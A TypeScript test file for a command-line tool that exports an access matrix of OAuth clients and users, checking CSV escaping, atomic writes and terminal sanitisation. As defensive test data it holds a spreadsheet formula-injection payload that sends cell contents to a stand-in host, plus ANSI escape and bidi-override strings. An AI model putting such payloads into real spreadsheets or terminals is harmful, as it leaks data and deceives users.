import {
  existsSync,
  lstatSync,
  readdirSync,
  readFileSync,
  statSync,
  symlinkSync,
  writeFileSync,
} from 'node:fs'
import { join } from 'node:path'
import { Readable, Writable } from 'node:stream'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { runCommandLine } from '../../cli/command-line.ts'
import { csvCells, csvRecord } from '../../cli/csv.ts'
import { english } from '../../cli/words/english.ts'
import { writeStream, writeWholeFile } from '../../cli/write-file.ts'
import { freshWorkspace, installation, interruptSoon } from './run-grantdesk.ts'

const { grantdesk, end } = freshWorkspace()
afterAll(end)

interface MatrixJson {
  readonly operations: number
  readonly users: readonly { readonly id: string; readonly email: string; readonly name: string }[]
  readonly apps: readonly {
    readonly id: string
    readonly name: string
    readonly itself: number | null
    readonly calls: readonly number[]
  }[]
}

const FORMULA = '=HYPERLINK("http://x.example/?"&A1,"a, b")'

beforeAll(async () => {
  await grantdesk.json('org', 'create', 'Acme', '--admin', 'ada@acme.example')
  await grantdesk.json('user', 'create', '+bob@acme.example', '--name', 'Bob')
  const app = ['--grant-type', 'CODE', '--scopes', 'users', '--redirect-uri', 'https://a.example/back']
  for (const name of [FORMULA, "'quoted'", 'Größe; 漢字', '@sum']) {
    await grantdesk.json('client', 'create', '--name', name, ...app)
  }
  const itself = ['--grant-type', 'CLIENT-CREDENTIALS', '--role', 'Employee']
  await grantdesk.json('client', 'create', '--name', 'Importer', ...itself)
}, 60_000)

/** RFC 4180, read character by character. */
function readCsv(text: string): readonly (readonly string[])[] {
  const records: string[][] = []
  let [record, cell, quoted]: [string[], string, boolean] = [[], '', false]
  for (let at = 0; at < text.length; at++) {
    const character = text.charAt(at)
    if (quoted && character === '"' && text.charAt(at + 1) === '"') {
      cell += '"'
      at++
    } else if (character === '"') quoted = !quoted
    else if (quoted) cell += character
    else if (character === ',') {
      record.push(cell)
      cell = ''
    } else if (character === '\r' && text.charAt(at + 1) === '\n') {
      records.push([...record, cell])
      ;[record, cell] = [[], '']
      at++
    } else cell += character
  }
  expect([cell, record, quoted]).toEqual(['', [], false])
  return records
}

async function onTerminal(...args: readonly string[]) {
  const [stdout, stderr] = [screen(), screen()]
  const terminal = { stdin: Readable.from([]), stdout, stderr, environment: { NO_COLOR: '1' } }
  const code = await runCommandLine(['--data', grantdesk.data, ...args], installation, terminal)
  return { code, stdout: stdout.printed.join(''), stderr: stderr.printed.join('') }
}

function screen() {
  const printed: string[] = []
  const stream = new Writable({
    write: (chunk: Buffer, _encoding, done) => {
      printed.push(chunk.toString())
      done()
    },
  })
  return Object.assign(stream, { isTTY: true, printed })
}

describe('the matrix (P4)', () => {
  it('is the same as CSV and as JSON, and no cell of it is a formula', async () => {
    const out = join(grantdesk.data, 'matrix.json')
    const written = await grantdesk.json('matrix', '--out', out)
    expect(written).toMatchObject({ path: out, format: 'json', apps: 9, users: 2 })
    expect(statSync(out).mode & 0o777).toBe(0o600)
    const matrix = JSON.parse(readFileSync(out, 'utf8')) as MatrixJson
    expect(matrix).toMatchObject({ operations: written.operations, divisionName: null })
    const csv = await grantdesk.run('matrix', '--format', 'csv')
    expect(csv.stderr).toBe('')
    const [heading, ...rows] = readCsv(csv.stdout)
    const unmarked = (cell: string | undefined) => cell?.replace(/^'/, '')
    expect(heading?.slice(0, 3)).toEqual(['client_id', 'name', 'itself'])
    expect(heading?.slice(3).map(unmarked)).toEqual(matrix.users.map(({ email }) => email))
    expect(rows.map(([id, name, itself, ...calls]) => [id, unmarked(name), itself, calls])).toEqual(
      matrix.apps.map(({ id, name, itself, calls }) =>
        itself === null ? [id, name, '', calls.map(String)] : [id, name, String(itself), ['', '']],
      ),
    )
    expect(rows.flat().filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([])
    expect(rows.map(([, name]) => name)).toEqual(
      expect.arrayContaining([`'${FORMULA}`, "''quoted'", "'@sum"]),
    )
    const app = matrix.apps.find(({ name }) => name === '@sum')
    const ada = matrix.users.findIndex(({ email }) => email === 'ada@acme.example')
    expect(app?.calls[ada]).toBeGreaterThan(0)
    expect(matrix.apps.find(({ name }) => name === 'Importer')).toMatchObject({ calls: [] })
  }, 60_000)

  it('is cut down by searches, to nothing as well', async () => {
    const search = ['--apps', 'importer', '--users', 'bob', '--operations', 'POST users']
    const table = await grantdesk.run('matrix', '--format', 'table', ...search, '--lang', 'de')
    expect(table.stdout).toMatch(/^Name +selbst +\+bob@acme\.example\nImporter +\d+\n$/)
    const nothing = await grantdesk.run('matrix', '--apps', 'zz', '--users', 'zz')
    expect(nothing).toEqual({ code: 0, stdout: 'client_id,name,itself\r\n', stderr: '' })
  }, 60_000)

  it('passes no control character of a record on to a terminal', async () => {
    const app = ['--grant-type', 'CODE', '--scopes', 'users', '--redirect-uri', 'https://a.example/back']
    const { id } = await grantdesk.json('client', 'create', '--name', 'Rude \u001b[2J\u202e', ...app)
    const shown = await onTerminal('matrix', '--format', 'csv', '--apps', 'rude')
    expect(shown.stdout).toContain('Rude \\u001b[2J\\u202e')
    expect(shown.stdout + shown.stderr).not.toMatch(/\u001b|\u202e/)
    await grantdesk.json('client', 'delete', String(id), '--yes')
  }, 60_000)

  it('is its sums on a terminal, with progress that leaves no trace', async () => {
    const shown = await onTerminal('matrix', '--lang', 'de')
    expect(shown.code).toBe(0)
    expect(shown.stdout).toMatch(
      /^Anwendungen: +9\nBenutzer: +2\nOperationen: +\d+\nErlaubte Aufrufe .*: +[\d.]+\n/,
    )
    expect(shown.stdout).toMatch(
      /\nAnwendungen mit den meisten Aufrufen\nName +Client-Id +Aufrufe +Benutzer\n/,
    )
    expect(shown.stderr).toMatch(/^(\r\d+ %\u001b\[K)+\r\u001b\[K$/)
    expect(await grantdesk.json('matrix', '--format', 'summary')).toMatchObject({ apps: 9, users: 2 })
  }, 60_000)

  it('is written as a whole or not at all', async () => {
    const out = join(grantdesk.data, 'kept.csv')
    writeFileSync(out, 'former')
    interruptSoon()
    const cancelled = await grantdesk.refused('matrix', '--out', out)
    expect(cancelled).toMatchObject({ exit: 1, code: 'cancelled' })
    async function* breaking() {
      yield await Promise.resolve('half')
      throw new Error('broken')
    }
    await expect(writeWholeFile(out, breaking(), english)).rejects.toThrow('broken')
    expect(readFileSync(out, 'utf8')).toBe('former')
    expect(readdirSync(grantdesk.data).filter((name) => name.endsWith('.part'))).toEqual([])

    const nowhere = join(grantdesk.data, 'missing', 'a.csv')
    const unwritable = { exit: 3, code: 'output_unwritable' }
    expect(await grantdesk.refused('matrix', '--out', nowhere)).toMatchObject({
      ...unwritable,
      path: nowhere,
    })
    expect(await grantdesk.refused('matrix', '--out', grantdesk.data)).toMatchObject(unwritable)
    expect(await grantdesk.refused('matrix', '--out', '/dev/null')).toMatchObject(unwritable)
    expect(existsSync(nowhere)).toBe(false)
    const link = join(grantdesk.data, 'link.csv')
    symlinkSync(out, link)
    await grantdesk.json('matrix', '--apps', 'importer', '--out', link)
    expect(readFileSync(out, 'utf8')).toMatch(/^client_id,name,itself,.*\r\n.*,Importer,\d+,,\r\n$/)
    expect(lstatSync(link).isSymbolicLink()).toBe(true)
    const usage = { exit: 2, code: 'usage' }
    expect(await grantdesk.refused('matrix', '--out', out, '--format', 'summary')).toMatchObject(usage)
    expect(await grantdesk.refused('matrix', '--format', 'xlsx')).toMatchObject(usage)
    expect(await grantdesk.refused('matrix', '--division', 'Mars')).toMatchObject({
      ...{ exit: 1, code: 'division_not_found' },
    })
  }, 60_000)
})

describe('text that is written', () => {
  it('waits for a slow reader, and stops where the reader goes away', async () => {
    let made = 0
    async function* chunks() {
      for (; made < 1_000; made++) yield await Promise.resolve('x'.repeat(100))
    }
    let taken = 0
    const slow = new Writable({
      highWaterMark: 150,
      write: (chunk: Buffer, _encoding, done) => {
        taken += chunk.length
        setImmediate(taken >= 5_000 ? () => slow.destroy() : done)
      },
    })
    await writeStream(slow, chunks())
    expect(taken).toBe(5_000)
    expect(made).toBeLessThan(60)
  })

  it('is read back as it was, whatever stands in a cell', () => {
    const cells = [
      'a',
      '',
      'a,b',
      'say "so"',
      'line\r\nline',
      '=1',
      '+1',
      '-1',
      '@a',
      '\ta',
      '\ra',
      "'a",
      '＝1',
      'a=1',
    ]
    const [read] = readCsv(csvRecord(cells))
    expect(read?.map((cell) => cell.replace(/^'/, ''))).toEqual(cells)
    expect(read?.map((cell) => cell.startsWith("'"))).toEqual(
      cells.map((cell) => /^[=+\-@\t\r'＝]/.test(cell)),
    )
    expect(csvRecord([-1, null, 'x'])).toBe('-1,,x\r\n')
    expect(csvCells('a,"b, ""c""",', ',')).toEqual(['a', 'b, "c"', ''])
    expect(csvCells('a;"b', ';')).toBeUndefined()
  })
})
